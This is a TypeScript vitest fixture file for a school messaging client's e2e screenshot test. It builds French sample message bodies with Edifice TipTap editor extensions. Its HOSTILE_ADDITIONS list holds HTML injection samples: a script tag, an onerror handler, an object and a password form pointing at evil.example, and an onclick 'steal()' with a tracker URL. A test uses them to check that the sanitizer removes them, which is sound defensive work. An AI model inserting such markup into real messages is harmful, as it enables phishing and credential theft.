// The reading fixtures of the e2e screenshot test (tests/e2e/reading_fixtures.rs): bodies as
// the ENT's editor writes them, produced here by Edifice's extensions themselves
// (@edifice.io/tiptap-extensions and TipTap's, configured as `useTipTapEditor` configures them,
// edifice-frontend-framework packages/react/src/modules/editor/hooks/useTipTapEditor.ts, with
// the node views' underlying extensions for images, videos, embeds and attachment links).
// Each committed file must be what the extensions write for its document; to write them
// again after a change here: MESSAGERIE_UPDATE_FIXTURES=1 npx vitest run readingFixtures
// (`fixtureFiles.ts`).
import { Attachment } from "@edifice.io/tiptap-extensions/attachment";
import { ConversationHistory } from "@edifice.io/tiptap-extensions/conversation-history";
import { ConversationHistoryBody } from "@edifice.io/tiptap-extensions/conversation-history-body";
import { FontSize } from "@edifice.io/tiptap-extensions/font-size";
import { CustomHeading } from "@edifice.io/tiptap-extensions/heading";
import { CustomHighlight } from "@edifice.io/tiptap-extensions/highlight";
import { Hyperlink } from "@edifice.io/tiptap-extensions/hyperlink";
import { Iframe } from "@edifice.io/tiptap-extensions/iframe";
import { Image } from "@edifice.io/tiptap-extensions/image";
import { TableCell } from "@edifice.io/tiptap-extensions/table-cell";
import { Video } from "@edifice.io/tiptap-extensions/video";
import { getHTMLFromFragment, getSchema, type Extensions, type JSONContent } from "@tiptap/core";
import Color from "@tiptap/extension-color";
import Table from "@tiptap/extension-table";
import TableHeader from "@tiptap/extension-table-header";
import TableRow from "@tiptap/extension-table-row";
import TextAlign from "@tiptap/extension-text-align";
import TextStyle from "@tiptap/extension-text-style";
import Underline from "@tiptap/extension-underline";
import { Node } from "@tiptap/pm/model";
import StarterKit from "@tiptap/starter-kit";
import { describe, expect, test } from "vitest";
import { fixtureFile } from "./fixtureFiles";

const ENT_EDITOR: Extensions = [
  StarterKit,
  CustomHighlight.configure({ multicolor: true }),
  Underline,
  TextStyle,
  Color,
  Table.configure({ resizable: true }),
  TableRow,
  TableHeader,
  TableCell,
  TextAlign.configure({ types: ["heading", "paragraph", "video", "audio", "iframe"] }),
  CustomHeading.configure({ levels: [1, 2] }),
  FontSize,
  Hyperlink,
  ConversationHistory,
  ConversationHistoryBody,
  Image,
  Video,
  Iframe,
  Attachment,
];

/** The id the fixtures give the workspace image; the e2e test uploads it and swaps the id. */
export const FIXTURE_IMAGE_ID = "0f8e2b1c-2d3e-4f50-8a9b-0c1d2e3f4a5b";

const text = (t: string, marks?: JSONContent["marks"]): JSONContent => ({ type: "text", text: t, ...(marks ? { marks } : {}) });
const para = (content: JSONContent[], textAlign: string | null = null): JSONContent => ({ type: "paragraph", attrs: { textAlign }, content });
const style = (attrs: Record<string, string>) => ({ type: "textStyle", attrs });
const cell = (content: JSONContent[], type = "tableCell", attrs: Record<string, unknown> = {}): JSONContent => ({
  type,
  attrs: { colspan: 1, rowspan: 1, colwidth: null, ...(type === "tableCell" ? { backgroundColor: null } : {}), ...attrs },
  content: [para(content)],
});

/** Each fixture: the document the ENT's editor holds. */
export const READING_FIXTURES: Record<string, JSONContent> = {
  formatting: {
    type: "doc",
    content: [
      { type: "customHeading", attrs: { level: 1, textAlign: null }, content: [text("Sortie au musée")] },
      para([
        text("Départ ", []),
        text("à 8 h 30", [{ type: "bold" }, style({ color: "#c0392b" })]),
        text(", retour ", []),
        text("vers 17 h", [{ type: "italic" }, style({ color: "#1a5fb4", fontSize: "18px" })]),
        text(". ", []),
        text("Prévoir un pique-nique", [{ type: "customHighlight", attrs: { color: "#fff176" } }]),
        text(" et ", []),
        text("des chaussures", [{ type: "underline" }]),
        text(" ", []),
        text("sans talons", [{ type: "strike" }]),
        text(".", []),
      ]),
      { type: "customHeading", attrs: { level: 2, textAlign: "center" }, content: [text("Programme")] },
      para([text("Centré, en petit", [style({ fontSize: "14px" })])], "center"),
      para([text("À droite")], "right"),
      para([text("Un paragraphe justifié assez long pour passer à la ligne dans le volet de lecture, comme un vrai message de professeur aux familles de la classe.")], "justify"),
      { type: "bulletList", content: [{ type: "listItem", content: [para([text("une autorisation signée")])] }, { type: "listItem", content: [para([text("un goûter")])] }] },
      { type: "orderedList", attrs: { start: 1, type: null }, content: [{ type: "listItem", content: [para([text("visite guidée")])] }, { type: "listItem", content: [para([text("atelier")])] }] },
      { type: "blockquote", content: [para([text("Le musée ouvre à 9 h.")])] },
      para([text("Le site du musée", [{ type: "hyperlink", attrs: { href: "https://musee.example/visites", target: "_blank", rel: "noopener noreferrer nofollow", class: null, title: null } }])]),
    ],
  },
  table: {
    type: "doc",
    content: [
      para([text("Emploi du temps de la sortie :")]),
      {
        type: "table",
        content: [
          { type: "tableRow", content: [cell([text("Heure")], "tableHeader"), cell([text("Activité")], "tableHeader"), cell([text("Lieu")], "tableHeader")] },
          { type: "tableRow", content: [cell([text("9 h")]), cell([text("Visite guidée", [{ type: "bold" }])]), cell([text("Salle 1")], "tableCell", { backgroundColor: "#a5d6a7" })] },
          { type: "tableRow", content: [cell([text("12 h")]), cell([text("Pique-nique au parc", [style({ color: "#1e7b34" })])], "tableCell", { colspan: 2 })] },
        ],
      },
      para([text("Fin à 17 h.")]),
    ],
  },
  image: {
    type: "doc",
    content: [
      para([text("Voici la photo de la classe :")]),
      para([{ type: "custom-image", attrs: { src: `/workspace/document/${FIXTURE_IMAGE_ID}?timestamp=1796000000000`, alt: null, title: null, width: "240", height: null, style: null, size: "medium" } }]),
      para([text("Bonne soirée.")]),
    ],
  },
  media: {
    type: "doc",
    content: [
      para([text("La vidéo de la chorale et le programme :")]),
      {
        type: "video",
        attrs: { src: "/workspace/document/7c3f1a2b-0000-4000-8000-000000000001", controls: true, documentId: "7c3f1a2b-0000-4000-8000-000000000001", isCaptation: false, videoResolution: "404x720", width: 350, height: 197 },
      },
      { type: "iframe", attrs: { src: "https://www.youtube.com/embed/dQw4w9WgXcQ", frameborder: 0, allowfullscreen: true, width: 560, height: 315, style: null } },
      {
        type: "attachments",
        attrs: {
          links: [
            { href: "/workspace/document/7c3f1a2b-0000-4000-8000-000000000002", name: "programme.pdf", dataDocumentId: "7c3f1a2b-0000-4000-8000-000000000002", dataContentType: "application/pdf" },
            { href: "/workspace/document/7c3f1a2b-0000-4000-8000-000000000003", name: "autorisation.odt", dataDocumentId: "7c3f1a2b-0000-4000-8000-000000000003", dataContentType: "application/vnd.oasis.opendocument.text" },
          ],
        },
      },
      para([text("À bientôt.")]),
    ],
  },
};

/**
 * What a hostile sender adds to a body the ENT's editor wrote (the ENT's API takes any HTML):
 * each must be removed, and the rest must look exactly like the benign body. (An `<iframe>`
 * is not among them: it shows as a note with its address, as the ENT's own embeds do; its
 * cleaning is crates/core/src/body.rs's `a_hostile_media_element_…` test.)
 */
export const HOSTILE_ADDITIONS = [
  '<script>document.body.style.background="red"</script>',
  '<img src="x" onerror="document.body.style.background=\'red\'">',
  '<object data="https://evil.example/phish" width="400" height="200"></object>',
  '<p onclick="steal()" style="background:url(https://tracker.example/p.png)"></p>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<style>body{background:red}</style>',
];

function entHtml(doc: JSONContent): string {
  const schema = getSchema(ENT_EDITOR);
  return getHTMLFromFragment(Node.fromJSON(schema, doc).content, schema);
}

describe("the reading fixtures are what the ENT's editor writes", () => {
  for (const [name, doc] of Object.entries(READING_FIXTURES)) {
    test(`${name}.html`, () => {
      const html = entHtml(doc) + "\n";
      expect(fixtureFile(`reading/${name}.html`, html)).toBe(html);
    });
  }

  test("hostile.html is formatting.html with hostile additions spread through it", () => {
    const benign = entHtml(READING_FIXTURES.formatting as JSONContent);
    // After the first paragraph, after the list, and at the end.
    const hostile =
      benign.replace("</p>", `</p>${HOSTILE_ADDITIONS.slice(0, 3).join("")}`).replace("</ul>", `</ul>${HOSTILE_ADDITIONS[3]}`) +
      HOSTILE_ADDITIONS.slice(4).join("") +
      "\n";
    expect(fixtureFile("reading/hostile.html", hostile)).toBe(hostile);
    for (const added of HOSTILE_ADDITIONS) expect(hostile).toContain(added);
  });
});
